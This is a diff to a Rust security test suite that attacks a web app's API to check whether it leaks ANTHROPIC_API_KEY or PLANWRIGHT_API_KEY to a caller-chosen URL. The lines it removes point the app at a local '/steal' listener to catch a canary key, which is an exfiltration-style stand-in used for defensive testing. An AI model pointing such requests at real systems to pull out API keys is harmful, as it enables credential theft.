@@ -76,7 +76,7 @@ async fn passphrase(report: &mut Report) -> anyhow::Result<()> {
                     answer_to(target.by(&speaks, Method::POST, "/api/agents").json(&wish)).await?;
                 taken += u32::from(status == 201);
             }
-            ensure!(taken < 300, "{taken} places were given");
+            ensure!((1..300).contains(&taken), "{taken} places were given");
             let login = json!({"passphrase": PASSPHRASE});
             let (status, body) =
                 answer_to(target.bare(Method::POST, "/api/login").json(&login)).await?;
@@ -161,11 +161,20 @@ async fn keys(report: &mut Report) -> anyhow::Result<()> {
     for (number, variable) in [("65", "ANTHROPIC_API_KEY"), ("65b", "PLANWRIGHT_API_KEY")] {
         report
             .attack(number, &format!("{variable} sent to an address of choice"), async {
-                let (port, heard) = thief().await?;
-                let url = format!("http://127.0.0.1:{port}/steal");
-                let wish = json!({"url": url, "name": "x", "keyFrom": variable});
-                answer_to(target.by(&ada, Method::POST, "/api/model/try").json(&wish)).await?;
-                ensure!(!heard.await?.contains("canary"), "the key was sent");
+                // The operator configured this address, so it is asked; the key is another maker's all the same.
+                let wish =
+                    json!({"url": target.model_url(), "name": "scripted", "keyFrom": variable});
+                let (status, body) =
+                    answer_to(target.by(&ada, Method::POST, "/api/model/try").json(&wish)).await?;
+                let words = body["detail"].as_str().unwrap_or_default();
+                // No variable but those of known makers is read for anybody: the model is asked without a key.
+                let held = match variable {
+                    "ANTHROPIC_API_KEY" => status == 422 && words.contains("and nowhere else"),
+                    _ => status == 200,
+                };
+                ensure!(held, "{status} {body}");
+                let keys = target.keys_sent();
+                ensure!(keys.iter().all(|key| !key.contains("canary")), "sent: {keys:?}");
                 Ok(())
             })
             .await;
